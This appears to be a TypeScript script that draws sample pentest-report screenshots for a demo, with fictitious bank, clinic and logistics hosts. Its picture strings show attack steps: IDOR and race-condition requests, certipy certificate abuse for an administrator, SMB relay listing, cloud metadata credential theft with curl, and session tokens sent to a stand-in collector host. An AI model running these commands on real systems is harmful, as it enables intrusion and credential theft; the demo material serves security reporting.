import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import sharp from 'sharp';
import { root } from './tools.ts';

// Draws the demo's evidence: requests with their answers, terminals, and pages of sites that there are not. The pictures
// are kept beside the demo's texts, for fonts differ from machine to machine.

const WIDTH = 1120;
const LINE = 25;
const MARGIN = 24;
const BAR = 44;

const plain = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** Lines of a terminal or a message; one that begins with `!` is marked as what matters. */
function lines(at: { x: number; y: number; width: number }, all: readonly string[]): string {
  return all
    .map((line, turn) => {
      const y = at.y + (turn + 1) * LINE;
      const marked = line.startsWith('!');
      const text = plain(marked ? line.slice(1) : line).replace(/ /g, '\u00a0');
      const colour = marked ? '#ffd479' : /^(?:\$|#|[A-Z]+ \/|HTTP)/.test(line) ? '#8fd3ff' : '#d5dbe3';
      const box = marked
        ? `<rect x="${at.x - 8}" y="${y - 18}" width="${at.width}" height="${LINE}" rx="4" fill="#5a3d12"/>`
        : '';
      return `${box}<text xml:space="preserve" x="${at.x}" y="${y}" fill="${colour}">${text}</text>`;
    })
    .join('');
}

const frame = (height: number, title: string, inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="${WIDTH}" height="${height}" font-family="DejaVu Sans Mono, monospace" font-size="15.5">
    <rect width="100%" height="100%" fill="#14181f"/><rect width="100%" height="${BAR}" fill="#252b35"/>
    ${['#e2695f', '#e0b44c', '#6fb65c'].map((colour, turn) => `<circle cx="${26 + turn * 24}" cy="22" r="7" fill="${colour}"/>`).join('')}
    <text x="${WIDTH / 2}" y="28" fill="#aeb6c2" text-anchor="middle" font-family="DejaVu Sans, sans-serif">${plain(title)}</text>${inside}</svg>`;

function terminal(title: string, all: readonly string[]): string {
  const at = { x: MARGIN + 8, y: BAR + 6, width: WIDTH - 2 * MARGIN };
  return frame(BAR + all.length * LINE + 40, title, lines(at, all));
}

function exchange(title: string, request: readonly string[], response: readonly string[]): string {
  const half = WIDTH / 2;
  const height = BAR + Math.max(request.length, response.length) * LINE + 84;
  const heading = (x: number, text: string) =>
    `<text x="${x}" y="${BAR + 30}" fill="#7f8a99" font-family="DejaVu Sans, sans-serif">${text}</text>`;
  const width = half - 2 * MARGIN + 8;
  const y = BAR + 42;
  return frame(
    height,
    title,
    `${heading(MARGIN, 'Request')}${heading(half + MARGIN, 'Response')}
     <line x1="${half}" x2="${half}" y1="${BAR}" y2="${height}" stroke="#39414d"/>
     ${lines({ x: MARGIN, y, width }, request)}${lines({ x: half + MARGIN, y, width }, response)}`,
  );
}

/** A site in a browser: an address, a heading, and boxes with words in them. */
function site(
  address: string,
  heading: string,
  boxes: readonly { readonly label: string; readonly kind: 'text' | 'field' | 'button' | 'warning' }[],
): string {
  let y = 150;
  const drawn = boxes.map(({ label, kind }) => {
    const top = y;
    y += kind === 'text' ? 36 : 58;
    const text = (x: number, colour: string) =>
      `<text x="${x}" y="${top + 27}" fill="${colour}">${plain(label)}</text>`;
    if (kind === 'text') return text(60, '#39414d');
    if (kind === 'button')
      return `<rect x="60" y="${top}" width="190" height="42" rx="6" fill="#1f6feb"/>${text(84, '#ffffff')}`;
    const [fill, line] = kind === 'field' ? ['#ffffff', '#98a2b0'] : ['#fff1d6', '#d99a1c'];
    return `<rect x="60" y="${top}" width="640" height="42" rx="6" fill="${fill}" stroke="${line}"/>${text(78, kind === 'field' ? '#8a93a0' : '#6b4a06')}`;
  });
  return `<svg xmlns="http://www.w3.org/2000/svg" width="${WIDTH}" height="${y + 40}" font-family="DejaVu Sans, sans-serif" font-size="16">
    <rect width="100%" height="100%" fill="#f5f6f8"/><rect width="100%" height="52" fill="#dfe3e8"/>
    <rect x="60" y="10" width="${WIDTH - 120}" height="32" rx="16" fill="#ffffff"/><text x="84" y="32" fill="#39414d">${plain(address)}</text>
    <text x="60" y="118" font-size="27" fill="#1a202a">${plain(heading)}</text>${drawn.join('')}</svg>`;
}

const PICTURES: Readonly<Record<string, string>> = {
  'statement-of-another': exchange(
    'banking.acc.northwind.example, signed in as zz-bruno',
    [
      'GET /documents/4400127 HTTP/1.1',
      'Host: banking.acc.northwind.example',
      '!Cookie: NWSESSION=(session of zz-bruno)',
      'Accept: application/pdf',
    ],
    [
      'HTTP/1.1 200 OK',
      'Content-Type: application/pdf',
      'Content-Disposition: attachment;',
      '!  filename="statement-zz-anna-2026-04.pdf"',
      'Content-Length: 84113',
      '',
      '%PDF-1.7',
    ],
  ),
  'race-of-transfers': terminal('race.py, 20 transfers at once', [
    '$ python3 race.py --path /api/transfers --parallel 20',
    ' 1  201  {"id":"T-70411","amount":"500.00"}',
    ' 2  201  {"id":"T-70412","amount":"500.00"}',
    ' 3  409  {"error":"insufficient funds"}',
    ' 4  201  {"id":"T-70413","amount":"500.00"}',
    ' 5  201  {"id":"T-70414","amount":"500.00"}',
    ' 6  201  {"id":"T-70415","amount":"500.00"}',
    ' …  409  {"error":"insufficient funds"} (15 times)',
    '$ curl -s https://banking.acc.northwind.example/api/accounts/zz-1001',
    '!{"id":"zz-1001","balance":"-2000.00","overdraft":"0.00"}',
  ]),
  'reset-form': site('https://banking.acc.northwind.example/reset', 'Reset your password', [
    { kind: 'text', label: 'Enter your user number. We’ll send a letter to your address.' },
    { kind: 'field', label: 'zz-999999' },
    { kind: 'warning', label: 'This number doesn’t exist' },
    { kind: 'button', label: 'Send letter' },
  ]),
  'approval-by-any-device': exchange(
    'api.acc.northwind.example, no device registered',
    [
      'POST /v2/payments/8801/approval HTTP/1.1',
      'Host: api.acc.northwind.example',
      'Authorization: Bearer (zz-200100)',
      'Content-Type: application/json',
      '',
      '{"deviceId":',
      '! "00000000-0000-0000-0000-000000000000"}',
    ],
    [
      'HTTP/1.1 200 OK',
      'Content-Type: application/json',
      '',
      '{"id": 8801,',
      '! "status": "accepted",',
      ' "executionDate": "2026-10-09"}',
    ],
  ),
  'limit-raised': exchange(
    'api.acc.northwind.example, as zz-200100',
    [
      'PATCH /v2/me HTTP/1.1',
      'Host: api.acc.northwind.example',
      'Authorization: Bearer (zz-200100)',
      'Content-Type: application/json',
      '',
      '{"language": "en",',
      '! "limits": {"daily": 9999999}}',
    ],
    [
      'HTTP/1.1 200 OK',
      'Content-Type: application/json',
      '',
      '{"user": "zz-200100",',
      ' "language": "en",',
      '! "limits": {"daily": 9999999,',
      '            "monthly": 20000}}',
    ],
  ),
  'stack-trace': terminal('Answer to ?from=2026-13-45', [
    'HTTP/1.1 500 Internal Server Error',
    'Content-Type: application/json',
    '',
    '{"error": "ERROR: date/time field value out of range",',
    '!"statement": "select t.id, t.amount, t.iban_hash from ledger.transactions t',
    '!              where t.account = $1 and t.booked >= $2",',
    ' "trace": ["bank.northwind.api.TransactionsResource.list(TransactionsResource.java:118)",',
    '           "bank.northwind.api.Router.dispatch(Router.java:77)"]}',
  ]),
  'certificate-of-administrator': terminal('j.test@attack-01', [
    "$ certipy req -u j.test@corp.harbour.example -p '…' -ca HARBOUR-CA \\",
    '    -template ClinicUser -upn administrator@corp.harbour.example',
    '[*] Successfully requested certificate',
    "![*] Got certificate with UPN 'administrator@corp.harbour.example'",
    '$ certipy auth -pfx administrator.pfx -dc-ip 10.20.1.10',
    '[*] Got TGT',
    "[*] Saved credential cache to 'administrator.ccache'",
  ]),
  'relay-list': terminal('attack-01, 10.20.0.0/16', [
    '$ nxc smb 10.20.0.0/16 --gen-relay-list relay.txt | tail -4',
    'SMB  10.20.14.31  445  WS-1431  (signing:False) (SMBv1:False)',
    'SMB  10.20.14.32  445  WS-1432  (signing:False) (SMBv1:False)',
    'SMB  10.20.14.35  445  WS-1435  (signing:False) (SMBv1:False)',
    'SMB  10.20.14.36  445  WS-1436  (signing:False) (SMBv1:False)',
    '$ wc -l relay.txt',
    '!212 relay.txt',
  ]),
  'form-in-the-inbox': site(
    'https://portal.acc.harbour.example/practice/inbox/3127',
    'Message from zz-patient-7',
    [
      { kind: 'warning', label: 'Your session has expired.' },
      { kind: 'field', label: 'User name' },
      { kind: 'field', label: 'Password' },
      { kind: 'button', label: 'Sign in' },
      { kind: 'text', label: 'All of this came with the message, and is sent to collect.acme.example.' },
    ],
  ),
  'open-bucket': terminal('No credentials', [
    '$ aws s3 ls --no-sign-request s3://kestrel-proof-of-delivery/2026/ | head -4',
    '2026-01-02 07:14:09     284113 0000417-front-door.jpg',
    '2026-01-02 07:15:40     301552 0000418-signature.jpg',
    '2026-01-02 07:21:12     276004 0000419-front-door.jpg',
    '2026-01-02 07:24:51     291877 0000420-parcel.jpg',
    '$ aws s3 ls --no-sign-request s3://kestrel-proof-of-delivery/2026/ | wc -l',
    '!184220',
  ]),
  'metadata-keys': terminal('ssm-user@i-0f31, track-eu-1', [
    '$ curl http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'kestrel-track-instance',
    '$ curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/kestrel-track-instance',
    '{ "Code" : "Success",',
    '  "Type" : "AWS-HMAC",',
    '!  "AccessKeyId" : "ASIA████████████",',
    '!  "SecretAccessKey" : "████████████████████████",',
    '  "Expiration" : "2026-10-14T18:02:51Z" }',
  ]),
  'payee-in-the-console': exchange(
    'What the adviser’s browser sent, to our collector',
    [
      'GET /?eyJ1c2VyIjoienotY2xlcmsiLCJicmFuY2gi… HTTP/1.1',
      'Host: collect.acme.example',
      'Referer: https://banking.acc.',
      '  northwind.example/adviser/orders',
    ],
    [
      '$ base64 -d',
      '{"user": "zz-clerk",',
      ' "branch": "Harbour Street",',
      '! "csrf": "9d1f…",',
      '! "session": "6f0c…"}',
    ],
  ),
};

const folder = join(root, 'src', 'demo', 'pictures');
await mkdir(folder, { recursive: true });
for (const [name, drawing] of Object.entries(PICTURES)) {
  const { size } = await sharp(Buffer.from(drawing))
    .png({ palette: true, colours: 64, compressionLevel: 9 })
    .toFile(join(folder, `${name}.png`));
  console.log(`${name}.png ${Math.ceil(size / 1024)} KB`);
}
